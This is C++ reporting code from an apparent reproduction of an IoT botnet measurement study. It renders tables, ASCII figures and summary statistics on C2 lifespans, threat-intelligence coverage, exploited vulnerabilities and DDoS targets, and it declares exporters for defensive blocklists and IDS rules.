  for (const auto& [c, n] : ds.c2_countries) c2_bars.emplace_back(c, n);
  os << "-- target AS types (paper: ISP 45%, Hosting 36%, rest Business):\n"
     << render_bars(type_bars) << "-- target countries (paper: 11 countries):\n"
     << render_bars(country_bars)
     << "-- issuing C2 countries (paper: US+NL+CZ issue 80%):\n"
     << render_bars(c2_bars) << "Gaming-specialised target ASes: "
     << util::percent(ds.gaming_as_fraction) << " (paper: 18%)\n";
  return os.str();
}

std::string figure13_as_cdf(const core::StudyResults& results) {
  const auto per_as = c2s_per_as(results);
  std::vector<std::pair<std::uint32_t, int>> sorted(per_as.begin(), per_as.end());
  std::sort(sorted.begin(), sorted.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });
  int total = 0;
  for (const auto& [asn, n] : sorted) total += n;

  std::ostringstream os;
  os << "Figure 13: cumulative C2 share by AS rank (" << per_as.size()
     << " ASes host C2s; paper: 128)\n";
  double cum = 0;
  for (std::size_t i = 0; i < sorted.size(); ++i) {
    cum += sorted[i].second;
    if (i < 10 || (i + 1) % 20 == 0 || i + 1 == sorted.size()) {
      const double frac = total > 0 ? cum / total : 0;
      os << util::pad_left(std::to_string(i + 1), 5) << "  "
         << util::pad_left(util::percent(frac), 7) << "  "
         << std::string(static_cast<int>(frac * 40), '#') << '\n';
    }
  }
  return os.str();
}

}  // namespace malnet::report
