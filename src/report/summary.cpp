#include "report/summary.hpp"

#include <set>

#include "botnet/world.hpp"
#include "proto/attack.hpp"

namespace malnet::report {

LifespanStats lifespan_stats(const core::StudyResults& results) {
  LifespanStats out;
  util::Cdf all;
  for (const auto& [addr, rec] : results.d_c2s) {
    if (!rec.ever_live()) continue;
    const auto span = static_cast<double>(rec.observed_lifespan_days());
    all.add(span);
    if (rec.is_dns) {
      out.domain_lifetimes.add(span);
    } else {
      out.ip_lifetimes.add(span);
    }
  }
  if (!all.empty()) {
    out.one_day_fraction = all.mass_at(1.0);
    out.mean_days = all.mean();
  }

  // Dead-on-arrival: per C2-referring sample, was any referred C2 live on
  // the sample's publication day?
  int referring = 0, dead = 0;
  for (const auto& s : results.d_samples) {
    if (s.p2p || s.c2_addresses.empty()) continue;
    ++referring;
    bool live = false;
    for (const auto& addr : s.c2_addresses) {
      const auto it = results.d_c2s.find(addr);
      if (it == results.d_c2s.end()) continue;
      for (const auto d : it->second.live_days) {
        if (d == s.day) {
          live = true;
          break;
        }
      }
    }
    if (!live) ++dead;
  }
  if (referring > 0) out.dead_on_arrival = static_cast<double>(dead) / referring;

  // Attack-issuing C2s live visibly longer (§5).
  std::set<std::string> attackers;
  for (const auto& dr : results.d_ddos) attackers.insert(dr.c2_address);
  util::Cdf attacker_spans;
  for (const auto& addr : attackers) {
    const auto it = results.d_c2s.find(addr);
    if (it != results.d_c2s.end() && it->second.ever_live()) {
      attacker_spans.add(static_cast<double>(it->second.observed_lifespan_days()));
    }
  }
  if (!attacker_spans.empty()) out.attacker_mean_days = attacker_spans.mean();
  return out;
}

TiStats ti_stats(const core::StudyResults& results) {
  TiStats out;
  int all = 0, all_miss = 0, all_requery_miss = 0;
  int ip = 0, ip_miss = 0, ip_requery_miss = 0;
  int dns = 0, dns_miss = 0, dns_requery_miss = 0;
  for (const auto& [addr, rec] : results.d_c2s) {
    // Our classifier's precision is effectively perfect in simulation, so
    // every record counts (the paper additionally cross-validated; see
    // DESIGN.md).
    ++all;
    if (!rec.vt_malicious_same_day) ++all_miss;
    if (!rec.vt_malicious_requery) ++all_requery_miss;
    if (rec.is_dns) {
      ++dns;
      if (!rec.vt_malicious_same_day) ++dns_miss;
      if (!rec.vt_malicious_requery) ++dns_requery_miss;
    } else {
      ++ip;
      if (!rec.vt_malicious_same_day) ++ip_miss;
      if (!rec.vt_malicious_requery) ++ip_requery_miss;
    }
    if (rec.vt_vendors_same_day > 0) {
      out.vendors_per_c2.add(static_cast<double>(rec.vt_vendors_same_day));
    }
  }
  const auto frac = [](int num, int den) {
    return den > 0 ? static_cast<double>(num) / den : 0.0;
  };
  out.miss_all_same_day = frac(all_miss, all);
  out.miss_ip_same_day = frac(ip_miss, ip);
  out.miss_dns_same_day = frac(dns_miss, dns);
  out.miss_all_requery = frac(all_requery_miss, all);
  out.miss_ip_requery = frac(ip_requery_miss, ip);
  out.miss_dns_requery = frac(dns_requery_miss, dns);
  return out;
}

SharingStats sharing_stats(const core::StudyResults& results) {
  SharingStats out;
  int total = 0, multi = 0;
  for (const auto& [addr, rec] : results.d_c2s) {
    ++total;
    if (rec.distinct_samples > 1) ++multi;
    if (rec.is_dns) {
      out.samples_per_domain.add(static_cast<double>(rec.distinct_samples));
    } else {
      out.samples_per_c2_ip.add(static_cast<double>(rec.distinct_samples));
    }
  }
  if (total > 0) out.multi_sample_fraction = static_cast<double>(multi) / total;
  return out;
}

ProbeStats probe_stats(const core::ProbeCampaignResult& pc2, int probes_per_day) {
  ProbeStats out;
  out.targets = static_cast<int>(pc2.raster.size());
  out.rounds = pc2.rounds;
  std::uint64_t successes_with_next = 0, nonresponses_after = 0;
  std::uint64_t responsive = 0, total = 0;
  for (const auto& [ep, bits] : pc2.raster) {
    for (std::size_t r = 0; r < bits.size(); ++r) {
      ++total;
      if (bits[r]) ++responsive;
      if (r + 1 < bits.size() && bits[r]) {
        ++successes_with_next;
        if (!bits[r + 1]) ++nonresponses_after;
      }
    }
    // Whole days where a target answered all probes.
    for (std::size_t day = 0; (day + 1) * probes_per_day <= bits.size(); ++day) {
      bool all = true;
      for (int k = 0; k < probes_per_day; ++k) {
        all &= bits[day * static_cast<std::size_t>(probes_per_day) +
                    static_cast<std::size_t>(k)];
      }
      if (all) ++out.days_with_all_probes_answered;
    }
  }
  if (successes_with_next > 0) {
    out.second_probe_nonresponse =
        static_cast<double>(nonresponses_after) / successes_with_next;
  }
  if (total > 0) out.response_rate = static_cast<double>(responsive) / total;
  return out;
}

DownloaderStats downloader_stats(const core::StudyResults& results) {
  DownloaderStats out;
  out.distinct_downloaders = static_cast<int>(results.downloader_hosts.size());
  for (const auto& host : results.downloader_hosts) {
    bool known_c2 = results.d_c2s.count(host) > 0;
    if (!known_c2) {
      for (const auto& [addr, rec] : results.d_c2s) {
        if (net::to_string(rec.ip) == host) {
          known_c2 = true;
          break;
        }
      }
    }
    if (!known_c2) ++out.not_known_c2;
  }
  return out;
}

DdosStats ddos_stats(const core::StudyResults& results, const asdb::AsDatabase& asdb) {
  DdosStats out;
  std::set<std::string> c2s, samples;
  std::set<std::string> types, gaming_types;
  std::map<net::Ipv4, std::set<std::string>> types_per_target;
  std::set<std::uint32_t> target_ases, gaming_target_ases;
  int port80 = 0, port443 = 0;

  for (const auto& dr : results.d_ddos) {
    ++out.total_attacks;
    const auto& cmd = dr.detection.command;
    const std::string type = proto::to_string(cmd.type);
    const std::string family = proto::to_string(cmd.family);
    ++out.by_type[type];
    ++out.by_type_family[{type, family}];
    ++out.by_protocol[proto::to_string(proto::attack_protocol(cmd.type, cmd.target.port))];
    types.insert(type);
    if (proto::is_gaming_attack(cmd.type)) gaming_types.insert(type);
    c2s.insert(dr.c2_address);
    samples.insert(dr.sample_sha);
    ++out.c2_countries[dr.c2_country.empty() ? "??" : dr.c2_country];
    types_per_target[cmd.target.ip].insert(type);
    if (cmd.target.port == 80) ++port80;
    if (cmd.target.port == 443) ++port443;
    if (const auto* as = asdb.by_ip(cmd.target.ip)) {
      ++out.target_as_types[asdb::to_string(as->type)];
      ++out.target_countries[as->country];
      target_ases.insert(as->asn);
      if (as->gaming) gaming_target_ases.insert(as->asn);
    }
  }
  out.distinct_c2s = static_cast<int>(c2s.size());
  out.distinct_samples = static_cast<int>(samples.size());
  out.attack_types_seen = static_cast<int>(types.size());
  out.gaming_types_seen = static_cast<int>(gaming_types.size());
  if (!target_ases.empty()) {
    out.gaming_as_fraction =
        static_cast<double>(gaming_target_ases.size()) / target_ases.size();
  }
  if (!types_per_target.empty()) {
    int multi = 0;
    for (const auto& [ip, t] : types_per_target) {
      if (t.size() >= 2) ++multi;
    }
    out.multi_attack_target_fraction =
        static_cast<double>(multi) / types_per_target.size();
  }
  if (out.total_attacks > 0) {
    out.port80_fraction = static_cast<double>(port80) / out.total_attacks;
    out.port443_fraction = static_cast<double>(port443) / out.total_attacks;
  }
  return out;
}

std::map<std::pair<int, std::uint32_t>, int> weekly_as_counts(
    const core::StudyResults& results) {
  const auto& week_starts = botnet::active_week_start_days();
  const auto week_of = [&](std::int64_t day) -> int {
    for (std::size_t w = 0; w < week_starts.size(); ++w) {
      if (day >= week_starts[w] && day < week_starts[w] + 7) {
        return static_cast<int>(w) + 1;
      }
    }
    return 0;  // outside the active weeks
  };
  std::map<std::pair<int, std::uint32_t>, int> out;
  for (const auto& [addr, rec] : results.d_c2s) {
    const int week = week_of(rec.discovery_day);
    if (week > 0 && rec.asn != 0) ++out[{week, rec.asn}];
  }
  return out;
}

std::map<std::uint32_t, int> c2s_per_as(const core::StudyResults& results) {
  std::map<std::uint32_t, int> out;
  for (const auto& [addr, rec] : results.d_c2s) {
    if (rec.asn != 0) ++out[rec.asn];
  }
  return out;
}

double weekly_top_as_consistency(const core::StudyResults& results) {
  const auto weekly = weekly_as_counts(results);
  const auto per_as = c2s_per_as(results);
  std::vector<std::pair<std::uint32_t, int>> overall(per_as.begin(), per_as.end());
  std::sort(overall.begin(), overall.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });
  if (overall.size() > 10) overall.resize(10);

  // Per-week top-10 sets.
  std::map<int, std::vector<std::pair<std::uint32_t, int>>> by_week;
  int max_week = 0;
  for (const auto& [key, n] : weekly) {
    by_week[key.first].emplace_back(key.second, n);
    max_week = std::max(max_week, key.first);
  }
  std::map<int, std::set<std::uint32_t>> week_top;
  for (auto& [week, entries] : by_week) {
    std::sort(entries.begin(), entries.end(),
              [](const auto& a, const auto& b) { return a.second > b.second; });
    for (std::size_t i = 0; i < entries.size() && i < 10; ++i) {
      week_top[week].insert(entries[i].first);
    }
  }

  int consistent = 0;
  for (const auto& [asn, total] : overall) {
    int ranked = 0;
    for (const auto& [week, tops] : week_top) {
      if (tops.count(asn)) ++ranked;
    }
    // "Consistent" = in the weekly top-10 for at least half of all weeks
    // with data.
    if (!week_top.empty() &&
        ranked * 2 >= static_cast<int>(week_top.size())) {
      ++consistent;
    }
  }
  return overall.empty() ? 0.0 : static_cast<double>(consistent) / overall.size();
}

}  // namespace malnet::report
