#include "report/tables.hpp"

#include <algorithm>
#include <sstream>

#include "report/render.hpp"
#include "report/summary.hpp"
#include "util/str.hpp"

namespace malnet::report {

std::string table1_datasets(const core::StudyResults& results) {
  int c2_samples = 0, exploit_samples = 0;
  std::set<std::string> exploit_shas;
  for (const auto& s : results.d_samples) {
    if (!s.p2p && !s.c2_addresses.empty()) ++c2_samples;
  }
  for (const auto& e : results.d_exploits) exploit_shas.insert(e.sample_sha);
  exploit_samples = static_cast<int>(exploit_shas.size());

  std::uint64_t pc2_measurements = 0;
  for (const auto& [ep, bits] : results.d_pc2.raster) pc2_measurements += bits.size();

  TextTable t({"Dataset", "Measured", "Paper", "Note"});
  t.row({"D-Samples", std::to_string(results.d_samples.size()), "1447",
         "daily VT+MalwareBazaar collection"});
  t.row({"D-C2s", std::to_string(results.d_c2s.size()), "1160",
         "sandbox-referred C2 addresses"});
  t.row({"D-PC2", std::to_string(pc2_measurements), "448",
         "probe measurements (responsive C2s x rounds)"});
  t.row({"D-Exploits", std::to_string(exploit_samples), "197",
         "samples with handshaker-extracted exploits"});
  t.row({"D-DDOS", std::to_string(results.d_ddos.size()), "42",
         "eavesdropped DDoS commands"});
  std::ostringstream os;
  os << "Table 1: datasets\n" << t.render();
  os << "(C2-referring samples: " << c2_samples << ")\n";
  return os.str();
}

std::string table2_top_ases(const core::StudyResults& results,
                            const asdb::AsDatabase& asdb) {
  const auto per_as = c2s_per_as(results);
  std::vector<std::pair<std::uint32_t, int>> sorted(per_as.begin(), per_as.end());
  std::sort(sorted.begin(), sorted.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });

  int total = 0, top10 = 0;
  for (const auto& [asn, n] : per_as) total += n;

  TextTable t({"AS Name", "ASN", "Country", "Hosting", "Anti-DDoS?", "#C2s"});
  for (std::size_t i = 0; i < sorted.size() && i < 10; ++i) {
    const auto [asn, count] = sorted[i];
    top10 += count;
    const auto* info = asdb.by_asn(asn);
    t.row({info != nullptr ? info->name : "?", std::to_string(asn),
           info != nullptr ? info->country : "?",
           info != nullptr && info->type == asdb::AsType::kHosting ? "Yes" : "No",
           info != nullptr && info->anti_ddos ? "Yes" : "No", std::to_string(count)});
  }
  std::ostringstream os;
  os << "Table 2: top-10 ASes hosting C2s\n" << t.render();
  if (total > 0) {
    os << "Top-10 concentration: " << util::percent(static_cast<double>(top10) / total)
       << " (paper: 69.7%)  |  distinct ASes: " << per_as.size()
       << " (paper: 128)\n";
  }
  return os.str();
}

std::string table3_ti_miss(const core::StudyResults& results) {
  const auto ti = ti_stats(results);
  TextTable t({"Type", "Same Day (measured)", "Same Day (paper)",
               "Re-query (measured)", "Re-query (paper)"});
  t.row({"All", util::percent(ti.miss_all_same_day), "15.3%",
         util::percent(ti.miss_all_requery), "3.3%"});
  t.row({"IP-based", util::percent(ti.miss_ip_same_day), "13.3%",
         util::percent(ti.miss_ip_requery), "1.5%"});
  t.row({"DNS-based", util::percent(ti.miss_dns_same_day), "57.6%",
         util::percent(ti.miss_dns_requery), "35.0%"});
  std::ostringstream os;
  os << "Table 3: C2 servers unreported by threat intelligence\n" << t.render();
  return os.str();
}

std::string table4_vulnerabilities(const core::StudyResults& results) {
  const auto& vdb = vulndb::VulnDatabase::instance();
  std::map<vulndb::VulnId, std::set<std::string>> samples_per_vuln;
  for (const auto& e : results.d_exploits) {
    samples_per_vuln[e.vuln].insert(e.sample_sha);
  }
  TextTable t({"ID", "Vulnerability", "Exploit ID", "Published", "Target Device",
               "#Samples", "Paper"});
  for (const auto& v : vdb.all()) {
    const auto it = samples_per_vuln.find(v.id);
    const int measured = it == samples_per_vuln.end()
                             ? 0
                             : static_cast<int>(it->second.size());
    t.row({std::to_string(v.paper_row), v.name, v.exploit_ref.value_or("N/A"),
           std::to_string(v.pub_year) + "-" + std::to_string(v.pub_month) + "-" +
               std::to_string(v.pub_day),
           v.target_device, std::to_string(measured), std::to_string(v.paper_samples)});
  }
  std::ostringstream os;
  os << "Table 4: exploited vulnerabilities (D-Exploits)\n" << t.render();

  // §4 age analysis, evaluated at the May 7 2022 re-query (study day 404) —
  // the date at which the paper's "9 older than 4 years / newest 5 months"
  // arithmetic reproduces exactly.
  int older_than_4y = 0, with_cve = 0;
  double newest_age = 1e9;
  for (const auto& v : vdb.all()) {
    if (v.cve) ++with_cve;
    const double age = v.age_years_at(404);
    if (age > 4.0) ++older_than_4y;
    newest_age = std::min(newest_age, age);
  }
  os << "Exploited vulnerability entries older than 4 years: " << older_than_4y
     << " (paper: 9); newest is " << util::fixed(newest_age * 12, 1)
     << " months old (paper: ~5 months); " << with_cve
     << " entries carry CVEs\n";
  return os.str();
}

std::string table7_vendors(const core::StudyResults& results,
                           const intel::ThreatIntel& ti, std::int64_t query_day) {
  std::vector<std::string> addresses;
  for (const auto& [addr, rec] : results.d_c2s) {
    if (!rec.is_dns) addresses.push_back(addr);
    if (addresses.size() >= 1000) break;
  }
  auto counts = ti.vendor_counts(addresses, query_day);
  std::sort(counts.begin(), counts.end(),
            [](const auto& a, const auto& b) { return a.second > b.second; });

  int detecting = 0;
  for (const auto& [name, n] : counts) {
    if (n > 0) ++detecting;
  }

  TextTable t({"Vendor", "#C2s flagged"});
  for (std::size_t i = 0; i < counts.size() && i < 20; ++i) {
    t.row({counts[i].first, std::to_string(counts[i].second)});
  }
  std::ostringstream os;
  os << "Table 7: top-20 vendors over " << addresses.size()
     << " C2 IPs at the re-query date\n"
     << t.render() << "Vendors flagging at least one C2: " << detecting
     << " of " << counts.size() << " (paper: 44 of 89)\n";
  return os.str();
}

}  // namespace malnet::report
