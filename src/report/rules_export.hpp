// Actionable-intelligence export — the deployment story of §1 ("Potential
// Impact"): turn the study's datasets into (a) firewall rules and IoC
// blocklists for the network perimeter, and (b) IDS signatures for the
// exploits the handshaker captured.
//
// The SNORT-dialect output is round-trippable through this project's own
// ids::RuleSet parser, which the tests exploit: every generated rule must
// parse, and must actually match the traffic it was generated from.
#pragma once

#include <string>
#include <vector>

#include "core/pipeline.hpp"
#include "ids/rules.hpp"

namespace malnet::report {

struct RuleExportOptions {
  /// Only C2s confirmed this way make the blocklist (avoid the false
  /// positive inflation §3.3 warns about).
  bool require_live_or_requery = true;
  /// Emit rules blocking the downloader hosts too (§3.1 co-hosting).
  bool include_downloaders = true;
};

/// One IoC entry of the blocklist.
struct Ioc {
  std::string address;   // IP literal or domain
  bool is_dns = false;
  net::Port port = 0;    // 0 = all ports
  std::string reason;    // "C2 (Mirai)", "malware downloader", ...
  std::int64_t first_seen_day = 0;
};

/// Extracts the blocklist from the study datasets.
[[nodiscard]] std::vector<Ioc> build_blocklist(const core::StudyResults& results,
                                               const RuleExportOptions& opts = {});

/// Renders SNORT-dialect drop rules for every IoC (sid range 1000xxx) and
/// exploit-signature alert rules for every vulnerability observed in
/// D-Exploits (sid range 2000xxx, content = the vulndb signature).
[[nodiscard]] std::string export_snort_rules(const core::StudyResults& results,
                                             const RuleExportOptions& opts = {});

/// Same intelligence as an iptables-restore style script (comment-annotated).
[[nodiscard]] std::string export_iptables(const core::StudyResults& results,
                                          const RuleExportOptions& opts = {});

/// Plain one-address-per-line blocklist (the format TI feeds exchange).
[[nodiscard]] std::string export_plain_blocklist(const core::StudyResults& results,
                                                 const RuleExportOptions& opts = {});

/// Parses the generated SNORT rules back through the in-tree IDS engine.
/// Throws std::runtime_error if any generated rule fails to parse — used
/// as a self-check before shipping rules to a real device.
[[nodiscard]] ids::RuleSet compile_exported_rules(const core::StudyResults& results,
                                                  const RuleExportOptions& opts = {});

}  // namespace malnet::report
