#include "report/render.hpp"

#include <algorithm>
#include <sstream>
#include <stdexcept>

#include "util/str.hpp"

namespace malnet::report {

TextTable::TextTable(std::vector<std::string> header) : header_(std::move(header)) {
  if (header_.empty()) throw std::invalid_argument("TextTable: empty header");
}

void TextTable::row(std::vector<std::string> cells) {
  if (cells.size() != header_.size()) {
    throw std::invalid_argument("TextTable: row width mismatch");
  }
  rows_.push_back(std::move(cells));
}

std::string TextTable::render() const {
  std::vector<std::size_t> widths(header_.size());
  for (std::size_t c = 0; c < header_.size(); ++c) widths[c] = header_[c].size();
  for (const auto& r : rows_) {
    for (std::size_t c = 0; c < r.size(); ++c) {
      widths[c] = std::max(widths[c], r[c].size());
    }
  }
  std::ostringstream os;
  const auto line = [&](const std::vector<std::string>& cells) {
    for (std::size_t c = 0; c < cells.size(); ++c) {
      os << (c ? "  " : "") << util::pad_right(cells[c], widths[c]);
    }
    os << '\n';
  };
  line(header_);
  std::string rule;
  for (std::size_t c = 0; c < widths.size(); ++c) {
    rule += std::string(widths[c], '-') + (c + 1 < widths.size() ? "  " : "");
  }
  os << rule << '\n';
  for (const auto& r : rows_) line(r);
  return os.str();
}

std::string render_cdf(const util::Cdf& cdf, const std::string& x_label,
                       std::size_t max_points) {
  std::ostringstream os;
  if (cdf.empty()) {
    // Degraded/chaos studies can legitimately hand an empty dataset to any
    // figure; render an explicit no-data row instead of crashing.
    os << "(no data: empty CDF of " << x_label << ")\n";
    return os.str();
  }
  os << "CDF of " << x_label << "  (n=" << cdf.count() << ", mean="
     << util::fixed(cdf.mean(), 2) << ", min=" << util::fixed(cdf.min(), 2)
     << ", max=" << util::fixed(cdf.max(), 2) << ")\n";
  const auto steps = cdf.steps();
  const std::size_t stride = std::max<std::size_t>(1, steps.size() / max_points);
  for (std::size_t i = 0; i < steps.size(); i += stride) {
    const auto [x, p] = steps[i];
    const int bar = static_cast<int>(p * 40);
    os << util::pad_left(util::fixed(x, 1), 9) << "  "
       << util::pad_left(util::percent(p), 7) << "  " << std::string(bar, '#') << '\n';
  }
  if ((steps.size() - 1) % stride != 0) {
    const auto [x, p] = steps.back();
    os << util::pad_left(util::fixed(x, 1), 9) << "  "
       << util::pad_left(util::percent(p), 7) << "  "
       << std::string(static_cast<int>(p * 40), '#') << '\n';
  }
  return os.str();
}

std::string render_bars(const std::vector<std::pair<std::string, double>>& data,
                        int width) {
  double max_v = 0;
  std::size_t label_w = 0;
  for (const auto& [label, v] : data) {
    max_v = std::max(max_v, v);
    label_w = std::max(label_w, label.size());
  }
  std::ostringstream os;
  for (const auto& [label, v] : data) {
    const int bar = max_v > 0 ? static_cast<int>(v / max_v * width) : 0;
    os << util::pad_right(label, label_w) << "  " << util::pad_left(util::fixed(v, 0), 6)
       << "  " << std::string(bar, '#') << '\n';
  }
  return os.str();
}

std::string render_heatmap(const std::vector<std::string>& row_labels,
                           const std::vector<std::vector<double>>& cells) {
  if (row_labels.size() != cells.size()) {
    throw std::invalid_argument("render_heatmap: label/row mismatch");
  }
  static constexpr char kGlyphs[] = " .:-=+*#%@";
  double max_v = 0;
  std::size_t label_w = 0;
  for (std::size_t r = 0; r < cells.size(); ++r) {
    label_w = std::max(label_w, row_labels[r].size());
    for (const double v : cells[r]) max_v = std::max(max_v, v);
  }
  std::ostringstream os;
  for (std::size_t r = 0; r < cells.size(); ++r) {
    os << util::pad_right(row_labels[r], label_w) << " |";
    for (const double v : cells[r]) {
      const int idx =
          max_v > 0 ? std::min(9, static_cast<int>(v / max_v * 9.999)) : 0;
      os << kGlyphs[idx];
    }
    os << "|\n";
  }
  return os.str();
}

std::string render_raster(const std::vector<std::string>& row_labels,
                          const std::vector<std::vector<bool>>& rows) {
  if (row_labels.size() != rows.size()) {
    throw std::invalid_argument("render_raster: label/row mismatch");
  }
  std::size_t label_w = 0;
  for (const auto& l : row_labels) label_w = std::max(label_w, l.size());
  std::ostringstream os;
  for (std::size_t r = 0; r < rows.size(); ++r) {
    os << util::pad_right(row_labels[r], label_w) << " |";
    for (const bool b : rows[r]) os << (b ? '#' : '.');
    os << "|\n";
  }
  return os.str();
}

}  // namespace malnet::report
