// Emitters for the paper's tables, each returning a rendered text block
// with measured values (and the paper's value alongside where it has one).
#pragma once

#include <string>

#include "core/pipeline.hpp"
#include "intel/threat_intel.hpp"

namespace malnet::report {

/// Table 1: the five datasets and their sizes.
[[nodiscard]] std::string table1_datasets(const core::StudyResults& results);

/// Table 2: the top-10 ASes hosting C2 IPs, with AS metadata and the
/// concentration fraction (paper: 69.7%).
[[nodiscard]] std::string table2_top_ases(const core::StudyResults& results,
                                          const asdb::AsDatabase& asdb);

/// Table 3: unreported C2 percentages, same-day vs the May 7 re-query.
[[nodiscard]] std::string table3_ti_miss(const core::StudyResults& results);

/// Table 4: exploited vulnerabilities with measured per-vuln sample counts.
[[nodiscard]] std::string table4_vulnerabilities(const core::StudyResults& results);

/// Table 7: per-vendor detection counts over up to 1000 discovered C2 IPs.
[[nodiscard]] std::string table7_vendors(const core::StudyResults& results,
                                         const intel::ThreatIntel& ti,
                                         std::int64_t query_day);

}  // namespace malnet::report
