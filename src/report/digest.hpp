// Weekly digests — the continuous-monitoring product of §1's deployment
// vision: for each study week, what a subscriber (ISP, CERT, hoster) would
// have received: newly discovered C2s (and which TI still missed), newly
// exploited vulnerabilities, and attacks eavesdropped that week.
#pragma once

#include <string>
#include <vector>

#include "asdb/asdb.hpp"
#include "core/pipeline.hpp"

namespace malnet::report {

struct WeeklyDigest {
  int week = 0;                 // study week (1-based, Appendix E layout)
  std::int64_t first_day = 0;   // first study day of the week
  int new_samples = 0;
  std::vector<std::string> new_c2s;        // first discovered this week
  std::vector<std::string> ti_missed_c2s;  // of those, unknown to TI
  std::vector<std::string> new_vulns;      // first observed this week
  int attacks = 0;
  std::vector<std::string> attack_lines;   // one-line summaries
};

/// Builds the digest for one study week (1..31).
[[nodiscard]] WeeklyDigest build_weekly_digest(const core::StudyResults& results,
                                               int week);

/// All non-empty weekly digests, in order.
[[nodiscard]] std::vector<WeeklyDigest> build_all_digests(
    const core::StudyResults& results);

[[nodiscard]] std::string render_digest(const WeeklyDigest& digest);

}  // namespace malnet::report
