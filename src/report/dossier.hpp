// Attribution dossiers — the paper's core pitch made executable: "a
// binary-centric study can create a holistic picture of the IoT malware
// with full attribution ... connect a binary and its family, with a live
// C2 server, a set of proliferation techniques, and even actual launched
// DDoS attacks" (§1).
//
// Given one C2 address (or one sample hash), gather everything the study
// knows across all five datasets into a single linked record.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "asdb/asdb.hpp"
#include "core/pipeline.hpp"

namespace malnet::report {

/// Everything attributable to one C2 address.
struct C2Dossier {
  core::C2Record record;
  std::vector<core::SampleRecord> samples;       // binaries referring to it
  std::vector<core::ExploitRecord> exploits;     // exploits those binaries used
  std::vector<core::DdosRecord> attacks;         // commands it issued
  bool serves_loaders = false;                   // §3.1 co-hosting
  std::optional<asdb::AsInfo> as_info;           // hosting environment
};

/// Builds the dossier; nullopt if the address is not in D-C2s.
[[nodiscard]] std::optional<C2Dossier> build_c2_dossier(
    const core::StudyResults& results, const asdb::AsDatabase& asdb,
    const std::string& address);

/// Everything attributable to one sample.
struct SampleDossier {
  core::SampleRecord record;
  std::vector<core::C2Record> c2s;
  std::vector<core::ExploitRecord> exploits;
  std::vector<core::DdosRecord> attacks;
};

[[nodiscard]] std::optional<SampleDossier> build_sample_dossier(
    const core::StudyResults& results, const std::string& sha256);

/// Human-readable dossier renderings.
[[nodiscard]] std::string render_dossier(const C2Dossier& dossier);
[[nodiscard]] std::string render_dossier(const SampleDossier& dossier);

}  // namespace malnet::report
