// The paper's headline-claim scorecard: every scalar claim from the
// abstract/§3–§5, checked against the measured study with an explicit
// tolerance. This is the reproduction's self-test — bench_claims prints it,
// and the test suite asserts it stays green.
#pragma once

#include <string>
#include <vector>

#include "asdb/asdb.hpp"
#include "core/pipeline.hpp"

namespace malnet::report {

struct ClaimCheck {
  std::string id;       // e.g. "S3.2-second-probe"
  std::string claim;    // human-readable statement
  double paper = 0;     // the paper's value
  double measured = 0;  // ours
  double abs_tol = 0;   // |measured - paper| tolerance for a pass
  bool pass = false;

  [[nodiscard]] double error() const { return measured - paper; }
};

/// Evaluates every headline claim against `results`.
[[nodiscard]] std::vector<ClaimCheck> check_claims(const core::StudyResults& results,
                                                   const asdb::AsDatabase& asdb);

/// Renders the scorecard as a text table with a pass/total footer.
[[nodiscard]] std::string render_claims(const std::vector<ClaimCheck>& checks);

}  // namespace malnet::report
