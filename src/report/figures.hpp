// Emitters for the paper's figures: each returns the plotted series as an
// ASCII rendering, prefixed with the headline statistics the paper draws
// from that figure.
#pragma once

#include <string>

#include "core/pipeline.hpp"

namespace malnet::report {

/// Fig 1: weekly C2 activity heatmap across the ten most active ASes.
[[nodiscard]] std::string figure1_heatmap(const core::StudyResults& results,
                                          const asdb::AsDatabase& asdb);

/// Fig 2 / Fig 3: CDFs of observed C2 lifetimes (IPs / domains).
[[nodiscard]] std::string figure2_lifetime_ip(const core::StudyResults& results);
[[nodiscard]] std::string figure3_lifetime_domain(const core::StudyResults& results);

/// Fig 4: probe-response raster and the 91% second-probe statistic.
[[nodiscard]] std::string figure4_probe_raster(const core::StudyResults& results);

/// Fig 5 / Fig 6: CDFs of distinct binaries per C2 IP / per C2 domain.
[[nodiscard]] std::string figure5_samples_per_c2(const core::StudyResults& results);
[[nodiscard]] std::string figure6_samples_per_domain(const core::StudyResults& results);

/// Fig 7: CDF of #vendors flagging a known C2.
[[nodiscard]] std::string figure7_vendor_cdf(const core::StudyResults& results);

/// Fig 8: per-vulnerability daily exploitation counts (12 panels).
[[nodiscard]] std::string figure8_vuln_timeseries(const core::StudyResults& results);

/// Fig 9: loader filename frequencies.
[[nodiscard]] std::string figure9_loaders(const core::StudyResults& results);

/// Fig 10: DDoS attacks by target protocol.
[[nodiscard]] std::string figure10_ddos_protocols(const core::StudyResults& results,
                                                  const asdb::AsDatabase& asdb);

/// Fig 11: attack type x malware family distribution.
[[nodiscard]] std::string figure11_ddos_types(const core::StudyResults& results,
                                              const asdb::AsDatabase& asdb);

/// Fig 12: DDoS targets by country and AS type.
[[nodiscard]] std::string figure12_targets(const core::StudyResults& results,
                                           const asdb::AsDatabase& asdb);

/// Fig 13: CDF of the number of ASes hosting C2s.
[[nodiscard]] std::string figure13_as_cdf(const core::StudyResults& results);

}  // namespace malnet::report
