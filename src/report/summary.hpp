// Derived statistics over the pipeline's datasets — the quantities behind
// the paper's headline claims. Shared by the table/figure emitters, the
// test suite and the benches.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "asdb/asdb.hpp"
#include "core/pipeline.hpp"
#include "util/stats.hpp"

namespace malnet::report {

/// §3.2 lifespan findings.
struct LifespanStats {
  util::Cdf ip_lifetimes;      // Figure 2 (days; ever-live IP C2s)
  util::Cdf domain_lifetimes;  // Figure 3 (days; ever-live DNS C2s)
  double dead_on_arrival = 0;  // fraction of C2-referring samples whose C2
                               // was dead on their publication day ("60%")
  double one_day_fraction = 0; // mass at exactly 1 day ("80%")
  double mean_days = 0;        // mean observed lifespan ("4 days")
  double attacker_mean_days = 0;  // attack-issuing C2s ("~10 days")
};

[[nodiscard]] LifespanStats lifespan_stats(const core::StudyResults& results);

/// §3.3 / Table 3 / Figure 7 threat-intelligence effectiveness.
struct TiStats {
  double miss_all_same_day = 0;   // 15.3%
  double miss_ip_same_day = 0;    // 13.3%
  double miss_dns_same_day = 0;   // 57.6%
  double miss_all_requery = 0;    // 3.3%
  double miss_ip_requery = 0;     // 1.5%
  double miss_dns_requery = 0;    // 35.0%
  util::Cdf vendors_per_c2;       // Figure 7 (same-day vendor counts)
};

[[nodiscard]] TiStats ti_stats(const core::StudyResults& results);
